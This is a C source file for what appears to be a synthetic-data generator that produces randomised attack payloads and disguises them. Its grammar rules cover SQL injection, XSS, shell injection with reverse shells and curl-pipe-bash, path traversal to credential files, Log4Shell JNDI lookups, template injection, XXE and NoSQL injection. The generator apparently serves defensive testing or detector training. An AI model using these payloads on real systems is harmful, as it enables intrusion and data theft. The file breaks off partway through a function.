/* Hostile strings by grammar, and the disguises that attackers give them.
 * Relies on: data/synth/attack_grammar.h, grammar.h, oddity.h.
 * Relied on by: data/synth/attack_inject.c; its rules by attack_grammar.c.
 *
 * What matters is the grammar of each language, not its usual examples: names, numbers, quotes, blanks and
 * nesting are drawn, so that no two attackers write the same text. */
#include "data/synth/attack_grammar.h"
#include "data/synth/grammar.h"
#include "data/synth/oddity.h"

#include <stdbool.h>
#include <stdio.h>
#include <string.h>

/* clang-format off */
static const SynthRule rules[] = {
    {"lead", {"", "", "~a1-6~", "~d1-5~", "~word~", "~w~", "-1", "~W~", "~d2~ ", "~w~.", "~w~@~w~", "+~d6-11~", "~w~ "}},
    {"word", {"admin", "test", "alice", "root", "guest", "user", "sales", "sip", "voip", "info", "operator", "~l1~",
              "~w~", "~w~", "~w~", "~w~~d1-3~", "~W~"}},
    {"table", {"subscriber", "users", "location", "cdr", "accounts", "information_schema.~w~", "pg_~w~", "sysobjects", "dual",
               "~w~", "~w~", "~w~s", "~w~_~w~", "~w~_~w~s", "~w~.~w~", "`~w~`", "[~w~]", "\"~w~\"", "(~select~) ~l1~",
               "sqlite_master", "~w~ join ~w~ using(~w~)", "all_~w~s", "mysql.~w~"}},
    {"select", {"select ~columns~ from ~w~", "select ~column~", "select ~columns~ from ~w~ where ~true~",
                "select ~column~ from ~w~ limit ~n~", "select ~column~ from ~w~ limit ~n~,1", "select top ~n~ ~column~ from ~w~",
                "select count(*) from ~w~", "select distinct ~column~ from ~w~ order by ~n~", "select max(~w~) from ~w~"}},
    {"column", {"username", "password", "ha1", "id", "~w~", "~w~", "~w~_~w~", "~l1~.~w~", "version()", "user()", "~w~()", "@@~w~",
                "null", "null", "~n~", "~n~", "char(~d2~)", "chr(~d2~)||chr(~d2~)", "0x~h4-16~", "'~w~'", "concat(~w~,0x~h2~,~w~)",
                "group_concat(~w~)", "cast(~w~ as char)", "hex(~w~)", "convert(~w~ using utf8)", "current_user", "md5(~n~)",
                "~w~||'~l1~'||~w~", "ifnull(~w~,~n~)", "substr(~w~,~n~,1)", "count(*)", "sqlite_version()", "banner"}},
    {"nulls", {"null,", "null,", "~n~,", "'~a1~',", "~w~,"}},
    {"columns", {"~column~", "~column~,~column~", "~column~,~column~,~column~", "~nulls+~~column~", "*", "~nulls*~~column~"}},
    {"quote", {"'", "'", "'", "\"", "')", "'))", "", "\\'", "`", "';", "\";", "'+'", "' ", "''", "\")", "]", "%'", "'||'", "\\\"", "'/", ")", "\xc2\xb4"}},
    {"end", {"--", "-- ", "#", ";--", "/*", "", "", "-- -", ";%00", "--+", "' --", "; #", "--~a1-3~", "-- ~w~", " and '~l1~'='~l1~",
             " or '~l1~'='", "/*~w~*/", " limit 1", " limit ~n~,1#", "%23", "%2d%2d", "--%20", ")--", "))#", "\""}},
    {"true", {"~n~=~=~", "~n~=~=~", "'~w~'='~w~'", "'~a1~'='~a1~", "true", "'~l1~'='~l1~", "~n~>0", "not false", "~n~ like ~=~", "'1'='1' ",
              "~n~<~n~9999", "~n~ between 0 and ~n~9", "exists(~select~)", "~n~ in (~=~,~n~)", "length('~w~')=~n~", "''=''",
              "(~n~)=(~=~)", "not ~n~=~n~", "~w~ like '%~l1~%'", "~w~ is not null", "(~select~)>~n~", "~n~<>~n~", "'~w~'!='~l1~",
              "~n~^0", "!0", "~w~ regexp '^~l1~'", "ascii(~column~)>~n~", "~n~ rlike ~=~", "0x~h2~=0x~h2~", "~n~ is not false"}},
    {"wait", {"sleep(~d1~)", "sleep(~n~)", "benchmark(~n~000000,md5(~n~))", "pg_sleep(~d1~)", "waitfor delay '0:0:~d1~'",
              "waitfor time '~d2~:~d2~'", "dbms_pipe.receive_message('~l1-3~',~d1~)", "(select ~n~ from (select(sleep(~d1~)))~l1-4~)",
              "randomblob(~n~00000000)", "if(~true~,sleep(~d1~),0)", "case when ~true~ then pg_sleep(~n~) else null end",
              "dbms_lock.sleep(~n~)", "(select count(*) from ~w~ ~l1~,~w~ ~l1~,~w~ ~l1~)", "like('~w~',upper(hex(randomblob(~d8~))))",
              "generate_series(1,~d6~)"}},
    {"statement", {"drop table ~table~", "drop ~w~ ~w~", "delete from ~table~", "delete from ~w~ where ~true~",
                   "update ~table~ set ~w~='~a2-8~'", "update ~w~ set ~w~=~n~ where ~w~='~w~'",
                   "insert into ~table~ values(~n~,'~a4~')", "insert into ~w~(~w~,~w~) values('~w~','~w~')", "truncate ~table~",
                   "truncate table ~w~", "alter table ~table~ add ~w~ int", "exec xp_cmdshell('~command~')", "exec ~w~..sp_~w~ '~w~'",
                   "shutdown", "shutdown with nowait", "create user ~w~", "create table ~w~(~w~ text)", "grant all on *.* to ~w~",
                   "select ~columns~ into outfile '/tmp/~w~'", "copy ~w~ to program '~command~'", "copy ~w~ from '/etc/~w~'",
                   "set ~w~=''", "load_file('/~file~')", "declare @~l1~ varchar(~n~)", "~select~", "call ~w~('~w~')",
                   "exec immediate '~select~'", "replace into ~w~ values(~n~)", "attach database '/tmp/~w~' as ~l1~",
                   "begin ~w~; end", "lock tables ~w~ write", "use ~w~", "merge into ~w~ using ~w~ on ~true~",
                   "select utl_http.request('~url~') from dual", "pragma ~w~"}},
    {"sqlcore", {"or ~true~", "or ~true~", "or ~true~", "and ~true~", "or (~true~)", "or not (~true~)", "and ~wait~", "or ~wait~",
                 "; ~statement~", "; ~statement~", "; ~statement~; ~statement~", "union ~select~", "union all ~select~",
                 "union ~select~", "union distinct ~select~", "union (~select~)", "and (~select~)>~n~",
                 "and ascii(substring((~select~),~n~,1))>~n~", "and mid((~select~),~n~,1)='~l1~'", "order by ~n~", "order by ~n~,~n~ desc",
                 "having ~true~", "group by ~column~ having ~true~", "procedure analyse(~column~,~n~)", "|| (~select~)",
                 "and extractvalue(~n~,concat(0x7e,~column~))", "rlike (select (case when (~true~) then ~n~ else ~n~ end))",
                 "and updatexml(~n~,concat(0x~h2~,(~select~)),~n~)", "xor ~true~", "&& ~true~", "|| ~true~",
                 "and ~n~=convert(int,(~select~))", "and ~n~=cast((~select~) as int)", "div ~n~", "; ~wait~", "where ~true~",
                 "in (~select~)", "and row(~n~,~n~)>(select count(*),concat(~column~,floor(rand(0)*2)) ~l1~ from ~w~ group by ~l1~)",
                 "into outfile '/~w~/~w~.~l2-3~'", "into dumpfile '/tmp/~w~'", "except ~select~", "intersect ~select~",
                 "like '%~l1~%'", "is null", "and exists(~select~)", "offset ~n~", "limit ~n~ offset ~n~", "returning ~columns~",
                 "and (~select~) is not null", "or ~w~ like '~l1~%'", "and if(~true~,~n~,(~select~))", "collate ~w~_ci"}},
    {"sql", {"~lead~~quote~ ~sqlcore~~end~", "~lead~~quote~ ~sqlcore~~end~", "~lead~~quote~ ~sqlcore~~end~",
             "~lead~~quote~~sqlcore~~end~", "~lead~~quote~) ~sqlcore~~end~", "~word~'~end~", "~lead~~quote~ ~sqlcore~ ~sqlcore~~end~",
             "~select~", "~n~ ~sqlcore~~end~", "~lead~' ~sqlcore~ and '~l1~'='~l1~", "~lead~' ~sqlcore~ or '~w~'='~w~",
             "concat(~column~,0x~h2~,~column~)", "~lead~\" ~sqlcore~~end~", "~statement~;", "~statement~~end~", "~n~;~statement~",
             "~n~ ~sqlcore~", "~lead~'||(~select~)||'", "~lead~'+(~select~)+'", "(~select~)", "~lead~~quote~/**/~sqlcore~~end~",
             "-~n~ union ~select~~end~", "~lead~' /*!~d5~~sqlcore~*/~end~", "~w~=~w~ ~sqlcore~", "~lead~\\' ~sqlcore~~end~"}},

    {"code", {"alert(~n~)", "alert(document.~w~)", "prompt(~n~)", "confirm(~n~)", "eval(~w~)", "alert`~n~`", "~w~(~n~)", "~w~('~w~')",
              "document.location='~url~?'+document.cookie", "fetch('//~host~/~a3~')", "top['~l2~'+'~l3~'](~n~)", "window['~w~'](~n~)",
              "new Image().src='//~host~/'+document.cookie", "import('//~host~/~w~.js')", "console.log(~n~)", "this.~w~=~n~",
              "window.open('~url~')", "$.getScript('//~host~')", "document.write('~w~')", "document.body.innerHTML='~w~'",
              "String.fromCharCode(~d2~,~d2~,~d3~)", "setTimeout('~w~(~n~)',~n~)", "self[atob('~b8-16~')](~n~)", "eval(atob('~b12-24~'))",
              "location=~w~", "location.href='~url~'", "throw onerror=~w~", "navigator.sendBeacon('//~host~',~w~)", "Function('~w~()')()",
              "[].~w~.constructor('~w~(~n~)')()", "var ~l1~=new XMLHttpRequest;~l1~.open('GET','~url~')", "alert(origin)", "print()",
              "localStorage.~w~", "parent.~w~()"}},
    {"event", {"onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationend",
               "onpointerenter", "onbegin", "on~w~", "onblur", "onkeyup", "onsubmit", "onwheel", "ondrag", "onresize", "onhashchange"}},
    {"tag", {"img", "svg", "body", "iframe", "a", "div", "input", "video", "audio", "details", "object", "embed", "form", "style",
             "~w~", "marquee", "math", "button", "table", "x", "p", "select", "textarea", "link", "meta", "image", "isindex", "b"}},
    {"value", {"~code~", "\"~code~\"", "'~code~'", "`~code~`"}},
    {"closer", {"\">", "'>", "</~tag~>", "--></~tag~>", ">", "\"/>", "]]>", "</textarea>", "*/", "'\"><"}},
    {"script", {"<script>~code~</script>", "~closer~<script>~code~</script>", "<script ~w~=~n~>~code~</script>", "<~tag~ ~event~=~value~>",
                "<~tag~ ~event~=~value~>", "<~tag~ ~w~=~a1-4~ ~event~=~value~>", "<~tag~/~event~=~value~>", "~closer~<~tag~ ~event~=~value~>",
                "<img src=~a1~ ~event~=~value~>", "<svg/~event~=~code~>", "javascript:~code~", "java\tscript:~code~", "vbscript:~w~(~n~)",
                "<iframe src=javascript:~code~>", "<~tag~ src=javascript:~code~>", "<a href=\"javascript:~code~\">~word~</a>",
                "<~tag~ href=javascript:~value~>~w~", "</title><script>~code~</script>", "<details open ~event~=~code~>",
                "<input autofocus ~event~=~code~>", "\" ~event~=\"~code~", "' ~event~='~code~", "<script src=//~host~/~w~.js></script>",
                "<script/src='~url~'>", "<object data=\"javascript:~code~\">", "<math><~w~ xlink:href=javascript:~code~>~l1~",
                "<video><source ~event~=\"~code~\">", "<style>@import'//~host~';</style>", "<style>*{~w~:url(~url~)}</style>",
                "<link rel=stylesheet href=//~host~>", "<meta http-equiv=refresh content=~d1~;url=~url~>",
                "<scr<script>ipt>~code~</scr</script>ipt>", "\\\";~code~//", "';~code~//", "\"-~code~-\"", "'+~code~+'", "</script><script>~code~",
                "<form action=~url~><input type=submit>", "<embed src=~url~>", "<base href=//~host~>", "data:text/html,<script>~code~</script>",
                "data:text/html;base64,~b16-40~", "<~tag~ background=javascript:~code~>", "<~tag~ style=~w~:expression(~code~)>",
                "<~tag~ style=\"~w~:url('javascript:~code~')\">", "<svg><animate ~event~=~code~ attributeName=~l1~>", "<svg><script>~code~</script>",
                "<~tag~>~a4~</~tag~><script>~code~</script>", "<!--#exec cmd=\"~command~\"-->", "<!--#include file=\"/~file~\"-->",
                "<?php ~php~?>", "<?=~php~?>", "<%~w~(~n~)%>", "&lt;script&gt;~code~&lt;/script&gt;", "\\u003cscript\\u003e~code~",
                "<~tag~ srcdoc='<script>~code~</script>'>", "<noscript><p title='</noscript><~tag~ ~event~=~code~>'>"}},
    {"php", {"system('~command~');", "echo ~n~*~n~;", "phpinfo();", "passthru($_GET[~n~]);", "eval($_POST['~w~']);", "exec('~command~');",
             "include('~url~');", "assert(~w~);", "`~command~`;", "file_get_contents('/~file~');", "shell_exec($_~L3~[~l1~]);",
             "print(md5(~n~));", "die('~w~');"}},
    {"host", {"~a4~.example", "198.51.100.~d2~", "~w~.example.net", "192.0.2.~d2~", "~w~.example.org", "[2001:db8::~d2~]", "~w~.~w~.example",
              "203.0.113.~d2~", "~w~-~w~.example.com", "~a12~.~w~.test", "127.0.0.1", "localhost", "169.254.169.254", "0x~h8~",
              "~w~.~l2~", "10.~d2~.~d2~.~d1~"}},
    {"url", {"http://~host~/~a3~", "https://~host~/", "//~host~/~w~", "ftp://~host~/~w~", "http://~host~:~d4~/~w~", "http://~host~/~w~.~l2-3~?~l1~=~n~",
             "http://~w~@~host~/", "gopher://~host~:~d4~/_~w~", "dict://~host~:~d4~/~w~", "tftp://~host~/~w~", "https://~host~/~w~/~w~",
             "http://~host~/latest/meta-data/~w~", "http://~host~:~d4~/~w~/~w~?~w~=~w~"}},
    {"command", {"id", "cat /~file~", "cat /etc/~w~", "wget ~url~ -O- | sh", "wget -q ~url~", "wget ~host~/~w~.sh", "nc -e /bin/sh ~host~ ~d4~",
                 "nc ~host~ ~d4~", "ncat ~host~ ~d4~ -e /bin/bash", "rm -rf /~w~/~a3~", "rm -f ~w~", "uname -a", "curl -s ~url~|bash", "curl ~url~ -o /tmp/~w~",
                 "ping -c ~d1~ ~host~", "ping ~host~", "touch /tmp/~w~", "whoami", "ls -la /", "ls -l~l1~ /~w~", "ls", "pwd", "sleep ~d1-2~", "reboot",
                 "ps aux", "ps -ef", "echo ~a8~ > /tmp/~a3~", "echo ~w~>>/~w~/~w~", "echo ~b12~|base64 -d|sh", "python3 -c 'import os;os.~w~(\"~w~\")'",
                 "/usr/sbin/~w~ -rx 'core ~w~'", "bash -i >& /dev/tcp/~host~/~d4~ 0>&1", "sh -c ~w~", "/bin/sh", "ifconfig", "ip a", "netstat -an",
                 "tftp -g -r ~w~ ~host~", "chmod ~d3~ /tmp/~w~", "chmod +x ~w~;./~w~", "perl -e 'print ~n~'", "kill -9 ~n~", "head -~n~ /~file~",
                 "tail /var/log/~w~", "grep ~w~ /~file~", "find / -name ~w~", "dir c:\\", "dir", "type c:\\~w~\\~w~.ini", "net user ~w~ ~a6~ /add",
                 "powershell -enc ~b12-32~", "cmd /c ~w~", "ipconfig /all", "certutil -urlcache -f ~url~ ~w~.exe", "telnetd -p ~d4~", "env",
                 "busybox ~w~", "useradd ~w~", "nslookup ~a4~.~host~", "mail ~w~ < /~file~", "cp /~file~ /tmp/~w~", "~w~ -~l1~ ~w~"}},
    {"joint", {";", ";", "|", "||", "&&", "&", "; ", " | ", " && ", "\\n", "%0a", "%3B", "%7C", "%26%26", "%26"}},
    {"shell", {"~lead~~joint~~command~~joint~", "~lead~~joint~~command~", "~lead~~joint~~command~", "~lead~~joint~~command~ #", "~lead~|~command~",
               "`~command~`", "$(~command~)", "~lead~$(~command~)~w~", "~lead~`~command~`", "|| ~command~ #", "%0a~command~", "; ~command~ ;#",
               "() { :;}; ~command~", "() { _; } >_[$($())] { ~command~; }", "~lead~| ~command~ |", "'~joint~~command~~joint~'",
               "\"~joint~~command~~joint~\"", "~lead~'~joint~~command~ #", "~w~;~l1~=~w~;~command~", "$IFS$9~command~", "{~command~,}",
               "{~w~,-~l1~,/~w~}", "|~command~;echo ~w~", "!~command~", "<(~command~)", "&&{echo,~a4~}", "$((~n~+~n~))", "${IFS}~command~",
               "~lead~~joint~~command~~joint~~command~", "@~command~|", "||~command~||", "~w~ > /~w~/~w~", "~w~ < /~file~", "$(echo ~b8~|base64 -d)",
               "$(printf '~w~')", "$~L3-6~", "${~w~:~n~:~n~}", "^~command~^", "%~L4-8~%", "a=$(~command~);echo $~l1~", "$'\\x~h2~\\x~h2~'",
               "`~command~|~command~`", "~w~&~command~&", "\\$(~command~)", "$($(~w~))", "~lead~~joint~c''at /~w~", "~lead~~joint~/\?\?\?/~l1~\? /~w~",
               "-o ProxyCommand=~command~", "--~w~=`~command~`"}},
    {"up", {"../", "../", "../", "..\\", "%2e%2e%2f", "....//", "..%252f", "..%c0%af", "..;/", "..%5c", "/../", "%2e%2e/", "..././", ".%2e/",
            "\\..\\", "..%2f", "..%2F", "%2e%2e%5c", "%252e%252e%252f", "..%255c", "..%u2215", "%c0%ae%c0%ae/", "%c0%ae%c0%ae%c0%af", "..//",
            "..\\/", "...../", "..%00/", "/%5c../", "%uff0e%uff0e/", ".?/.?/", "..%ef%bc%8f", "..%0a/", "./../"}},
    {"climb", {"~up+~", "~up+~", "~up+~", "~up*~", "~up~", "~up+~~up+~"}},
    {"file", {"etc/passwd", "etc/shadow", "windows/win.ini", "etc/asterisk/~w~.conf", "proc/self/environ", "boot.ini", "etc/~w~", "etc/~w~/~w~.conf",
              "etc/kamailio/~w~.cfg", "var/log/~w~/~w~", "var/log/~w~.log", "etc/hosts", "root/.ssh/id_rsa", "home/~w~/.ssh/~w~", "etc/freeswitch/~w~.xml",
              "var/www/html/~w~.php", "usr/local/etc/~w~.conf", "winnt/system32/cmd.exe", "windows/system32/~w~/~w~", "tftpboot/~h12~.cfg",
              "etc/opensips/~w~.cfg", ".git/config", "etc/issue", "proc/version", "proc/~n~/cmdline", "opt/~w~/~w~.db", "~w~/~w~.php", ".env",
              "var/spool/~w~", "dev/~w~", "root/.~w~_history", "sys/~w~", "etc/group", ".ht~w~", "tmp/~a6~"}},
    {"path", {"~climb~~file~", "~climb~~file~", "/var/www/~climb~~file~", "/~w~/~climb~~file~", "file:///~climb~~file~", "~climb~~file~%00",
              "~climb~~file~%00.~l3~", "file:///~file~", "/~file~", "~word~/~climb~~file~", "~w~.~l3~/~climb~~file~", "php://filter/~w~/resource=~file~",
              "php://filter/convert.base64-encode/resource=~climb~~file~", "php://input", "zip://~w~.zip%23~w~.php", "phar://~w~/~w~", "data://text/plain;base64,~b12-24~",
              "\\\\~host~\\~w~\\~l1~", "c:\\~climb~~file~", "~l1~:/~file~", "~climb~~file~%23", "expect://~command~", "~climb~~file~?", "~climb~~file~;~w~",
              "jar:~url~!/", "netdoc:///~file~", "~climb~~w~", "~climb~~w~.~l3~", "~url~?~w~=~climb~~file~", "~w~=~climb~~file~", "//~host~/~climb~~file~",
              "~climb~", "%00~climb~~file~", "~climb~~file~::$DATA", "file:/~climb~~file~", "file://~host~/~file~"}},

    {"directive", {"%s", "%s", "%n", "%n", "%x", "%0~n~x", "%08x.", "%p", "%~n~$s", "%d%n", "%~d3-6~d", "%hn", "%.~n~d", "%~n~$n", "%~n~$x", "%~n~$hn",
                   "%lx", "%lu", "%u", "%.~d4~d", "%hhn", "%#x", "%c", "%f", "%e", "%.*s", "%~n~s", "%-~n~s", "%lln", "%s|", "%x ", "%p.", "%x,", "%s%n", "%*c",
                   "%i", "%llx:", "%g", "%a", "%S", "%zu", "%~n~c%~n~$n", "\\x~h2~%n"}},
    {"directives", {"~directive*~", "~directive+~", "~directive+~", "~directive*~~directive+~"}},
    {"format", {"~directives~", "~directives~", "~lead~~directives~", "~directives~~w~~directives~", "~a4~~directives~", "AAAA~directives~",
                "~w~=~directives~", "~w~ ~directives~", "~directives~~directives~", "%~n~$p%~n~$n", "~h8~~directives~", "~directives~@~w~",
                "%@%@%@%@", "{0}{1}{~n~}", "%(~w~)s%(~w~)s", "{~w~.__class__}"}},

    {"crlf", {"%0d%0a", "%0a", "\\r\\n", "\\n", "%0D%0A%0D%0A", "%E5%98%8A%E5%98%8D", "%0d", "\\x0a", "\\x0d\\x0a", "\\u000a", "\\u000d\\u000a", "%250a", "%250d%250a",
              "&#10;", "&#13;&#10;", "&#x0a;", "%c4%8a", "%c4%8d%c4%8a", "\\r\\n\\r\\n", "%0d%0a%20", "%0A%09", "%u000a", "%u000d%u000a", "\\012", "\\r", "%00%0a",
              "%e2%80%a8", "%c0%8d%c0%8a", "\\n\\n", "%23%0a", "\\u2028", "\\e[~n~m", "\\x1b[~n~;~n~H", "%1b[~n~m", "%0b%0a", "\\033[2J"}},
    {"level", {"INFO", "WARNING", "ERROR", "NOTICE", "DEBUG", "CRITICAL", "SECURITY", "ALERT", "info", "warn", "error", "<~n~>"}},
    {"month", {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"}},
    {"stamp", {"~month~ ~n~ ~d2~:~d2~:~d2~ ~w~", "20~d2~-~d2~-~d2~ ~d2~:~d2~:~d2~", "[~month~ ~n~ ~d2~:~d2~:~d2~]", "~d10~.~d3~", "[~d2~/~month~/20~d2~:~d2~:~d2~:~d2~ +0000]"}},
    {"claim", {"~w~ ~w~ ok", "login ok", "auth ok for ~word~", "accepted user=~word~", "user ~word~ logged in", "Registration from '~word~' succeeded",
               "access granted", "~w~ success", "password changed for ~w~", "rejected by rule ~n~", "Failed to authenticate '~word~'", "session opened for user ~w~",
               "~w~: ~w~ ~w~", "call from ~d4~ to ~d6~ answered", "new ~w~ added by ~w~", "shutdown requested by ~w~", "registered ~d4~"}},
    {"header", {"Contact", "From", "To", "Via", "X-~W~", "Set-Cookie", "Authorization", "Route", "Record-Route", "~W~-~W~", "P-Asserted-Identity", "Location", "Subject",
                "Content-Type", "Content-Length", "Proxy-Authorization", "Expires", "Host"}},
    {"entry", {"~level~: ~claim~", "~level~[~d4~]: ~w~.c: ~claim~", "~stamp~ ~w~[~d3~]: ~level~: ~claim~", "~stamp~ ~level~ ~claim~", "[~level~] ~claim~", "level=~level~ msg=~claim~",
               "~level~[~d4~][C-~h8~] ~w~.c: ~claim~", "Failed password for ~word~ from ~host~ port ~d4~ ssh2", "~claim~", "\\x1b[~n~m~w~", "<script>~code~</script>",
               "~header~: <sip:~w~@~host~>", "~header~: ~word~", "~header~: ~w~=~a4-12~", "~header~: ~n~", "~header~: Basic ~b12~", "SIP/2.0 200 OK", "HTTP/1.1 ~d3~ OK",
               "INVITE sip:~d4~@~host~ SIP/2.0", "REGISTER sip:~host~ SIP/2.0", "GET /~w~ HTTP/1.1", "~w~: auth ok for ~d3~", "kernel: ~w~",
               "~stamp~ ~w~ sudo: ~word~ : TTY=pts/~d1~ ; COMMAND=/bin/~w~", "{\"~w~\":\"~w~\",\"level\":\"~level~\"}", "~host~ - - ~stamp~ \"GET /~w~\" 200"}},
    {"log", {"~a4~~crlf~~entry~", "~lead~~crlf~~entry~", "~word~~crlf~~crlf~~entry~", "~a3~~crlf~~entry~~crlf~~entry~", "~w~~crlf~~entry~~crlf~", "~crlf~~entry~",
             "~w~ ~w~~crlf~~entry~", "~crlf+~~entry~"}},

    {"scheme", {"ldap", "ldap", "ldap", "rmi", "dns", "ldaps", "iiop", "nis", "http", "corba", "nds"}},
    {"letter", {"${lower:~l1~}", "${upper:~l1~}", "${::-~l1~}", "${env:~L1-4~:-~l1~}", "${sys:~w~:-~l1~}", "${~w~:~w~:-~l1~}", "${date:'~l1~'}", "${${::-~l1~}:~w~}"}},
    {"jndi", {"jndi", "jndi", "jndi", "${lower:j}ndi", "${lower:j}${lower:n}di", "j${::-n}di", "${env:~L1-5~:-j}ndi", "${upper:j}ndi", "j${~w~:~w~:-n}di",
              "${::-j}${::-n}${::-d}${::-i}", "${~w~:-j}n${~w~:-d}i", "jn${lower:d}i", "${lower:jnd}${lower:i}", "j${lower:N}d${upper:i}"}},
    {"lookup", {"${~jndi~:~scheme~://~host~/~a3~}", "${~jndi~:~scheme~://~host~:~d4~/~w~}", "${~jndi~:~scheme~://${env:~L4~}.~host~/~l1~}", "${~jndi~:~scheme~://~host~/${sys:~w~}}",
                "${~jndi~:~scheme~://${hostName}.~host~}", "${~jndi~:${lower:l}${lower:d}ap://~host~/~l1~}", "${env:~L3-8~}", "${sys:~w~.~w~}", "${java:~w~}", "${date:~w~}",
                "${~letter*~}", "${~letter+~:~w~}", "${script:javascript:~code~}", "${url:UTF-8:~url~}", "${dns:~host~}", "${dns:address|~host~}", "${ctx:~w~}", "${main:~n~}",
                "~w~${~jndi~:~scheme~:~host~/~w~}", "${~jndi~:~scheme~://127.0.0.1#~host~:~d4~/~l1~}", "${base64:~b12-24~}", "${bundle:~w~:~w~}", "${file:utf-8:/~file~}",
                "$%7Bjndi:~scheme~://~host~/~w~%7D", "${~jndi~:~scheme~://[2001:db8::~h2~]/~w~}"}},

    {"sum", {"~n~*~n~", "~n~*~n~", "~n~+~n~", "~n~*'~n~'", "config", "self", "request", "~n~-~n~", "~w~", "~w~.~w~", "~w~|~w~", "'~w~'.upper()", "~w~()", "~n~ * ~n~"}},
    {"template", {"{{~sum~}}", "{{ ~sum~ }}", "{{~sum~}}", "${~sum~}", "#{~sum~}", "${{~sum~}}", "<%= ~sum~ %>", "<%=~sum~%>", "*{~sum~}", "{{~w~.items()}}", "@(~sum~)", "{~sum~}",
                  "{{''.__class__.__mro__[~n~].__subclasses__()}}", "{{~w~.__class__.__base__}}", "{{[].__class__}}", "${T(java.lang.~W~).get~W~().exec('~command~')}",
                  "${''.getClass().forName('~w~.~W~')}", "{{constructor.constructor('~code~')()}}", "{{$on.constructor('~code~')()}}", "{% ~w~ %}", "{%~w~ ~w~=~n~%}~w~",
                  "{% import '~w~' as ~l1~ %}", "{{self.__init__.__globals__}}", "[[${~sum~}]]", "[(${~sum~})]", "__${~sum~}__::.~l1~", "%{~sum~}",
                  "%{(#~l1~=@java.lang.Runtime@getRuntime().exec('~command~'))}", "{php}~php~{/php}", "{if ~php~}{/if}", "{{request|attr('~w~')}}",
                  "<#assign ~l1~=\"freemarker.template.utility.Execute\"?new()>${~l1~('~command~')}", "${\"~w~\"?upper_case}", "{{=~sum~}}", "{{{~sum~}}}", "$var(~w~)", "$avp(~w~)",
                  "#set($~l1~=~n~)$~l1~", "#{~w~ `~command~`}", "{{~w~.__globals__['os'].popen('~command~').read()}}", "{{['~command~']|filter('system')}}",
                  "${@print(~n~)}", "${~w~.~w~(~n~)}", "a{*~w~*}b"}},

    {"attribute", {"uid", "cn", "objectClass", "userPassword", "mail", "sn", "telephoneNumber", "~w~", "~w~", "ou", "dc"}},
    {"filter", {"(~attribute~=*)", "(~attribute~=~w~)", "(~attribute~=~w~*)", "(~attribute~>=~n~)", "(!(~attribute~=~w~))"}},
    {"directory", {"*)(~attribute~=*", "*)(~attribute~=*))(|(~attribute~=*", "~word~)(&)", "*))%00", "(|~filter~~filter~)", "(&~filter+~)", "~word~)~filter~", "~lead~*)(|~filter~",
                   "~word~*)((|~attribute~=*)", ")(~attribute~=~w~", "*()|%26'", "' or '~n~'='~=~' or ''='", "'] | //~w~/* | //*['", "']/../~w~['", "//*", "//~w~[~n~]",
                   "~w~' or name()='~w~' or '~l1~'='~l1~", "count(/child::node())", "~word~)(!(&(~n~=0", "*)(|(&", "' or position()=~n~ or '", "' or contains(~w~,'~l1~') or '",
                   "string-length(name(/*[~n~]))", "' and substring(//~w~[~n~],~n~,1)='~l1~", "~w~*", "*)(~attribute~=~w~*))%00", "\\2a)(~attribute~=\\2a", "doc('~url~')",
                   "' or //~w~[~w~='~w~'] or '", "starts-with(~w~,'~l1~')"}},

    {"markup", {"<!DOCTYPE ~w~ [<!ENTITY ~w~ SYSTEM \"file:///~file~\">]><~l1~>&~w~;</~l1~>", "<!ENTITY % ~l1-4~ SYSTEM \"~url~\"> %~l1~;", "<!ENTITY ~w~ \"~w~\">",
                "<!DOCTYPE ~w~ PUBLIC \"-//~w~\" \"~url~\">", "<xi:include href=\"file:///~file~\" parse=\"text\"/>", "<xi:include href=\"~url~\"/>", "<![CDATA[<~w~>]]>",
                "<![CDATA[~w~]]><~w~/>", "<?xml version=\"1.0\"?><!DOCTYPE ~w~ SYSTEM \"~url~\">", "]]><~w~/>", "<~w~ xmlns:xi=\"http://www.w3.org/2001/XInclude\"/>",
                "<!--~w~--><~w~>~n~</~w~>", "&~w~;&#x~h2~;", "&~l1-4~;&~l1-4~;&~l1-4~;", "<xsl:value-of select=\"~w~('~w~')\"/>", "<xsl:include href=\"~url~\"/>", "</~w~><~w~ ~w~=\"~w~\">",
                "</presence><presence entity=\"~w~\">", "<soap:Body>~w~</soap:Body>", "<?~w~ ~w~=\"~url~\"?>", "<~w~>~w~</~w~><~w~>~n~</~w~>"}},

    {"operator", {"gt", "ne", "nin", "exists", "regex", "where", "or", "lt", "in", "expr"}},
    {"document", {"{\"$~operator~\":\"\"}", "{\"$~operator~\":null}", "{\"~w~\":{\"$~operator~\":~n~}}", "{$~operator~:'~w~'}", "[$~operator~]=~n~", "~w~[$~operator~]=~w~",
                  "'; return true; var ~l1~='", "'; return ~w~=='~w~'; //", "{\"$where\":\"sleep(~n~)\"}", "' || '~n~'=='~=~", "' || ~w~.~w~ || '", "';while(~n~);'", "';sleep(~d4~);'",
                  "{\"$regex\":\"^~l1~.*\"}", "true, $where: '~n~ == ~=~'", "{$or:[{},{\"~w~\":\"~w~\"}]}", "\\r\\nFLUSHALL\\r\\n", "\\r\\nSET ~w~ ~w~\\r\\n", "~n~; sleep(~d4~)",
                  "{\"__proto__\":{\"~w~\":~n~}}", "__proto__[~w~]=~w~", "db.~w~.drop()", "';db.~w~.find();'", "this.~w~.match(/^~l1~/)", "function(){return ~w~}", "constructor[prototype][~w~]=~n~"}},
};
/* clang-format on */

const SynthGrammar attack_payload_grammar = {rules, sizeof rules / sizeof *rules};

static const char *const payload_rules[ATTACK_PAYLOADS] = {
    "~sql~",    "~script~",   "~shell~",     "~path~",   "~format~",   "~log~",
    "~lookup~", "~template~", "~directory~", "~markup~", "~document~",
};

/* -- disguise ------------------------------------------------------------------------------------------- */

static bool is_letter(char c) {
    return (unsigned char)((c | 0x20) - 'a') < 26;
}

static void change_case(SynthRandom *random, AttackText *text) {
    uint32_t kind = synth_below(random, 5);
    if (kind > 2) return; /* as written */
    for (uint32_t i = 0; i < text->length; i++) {
        if (!is_letter(text->bytes[i])) continue;
        bool upper = kind == 0 || (kind == 1 && synth_below(random, 2));
        text->bytes[i] = (char)(upper ? text->bytes[i] & ~0x20 : text->bytes[i] | 0x20);
    }
}

/* Blanks of SQL and shell written as something that the parser behind takes for one. */
static void change_blanks(SynthRandom *random, AttackPayload family, AttackText *text) {
    static const char *const blanks[] = {" ",  " ",   " ",     "/**/", "%20", "+",
                                         "\t", "%09", "/*x*/", "%0b",  "%0a"};
    if (family != ATTACK_SQL && synth_below(random, 4)) return;
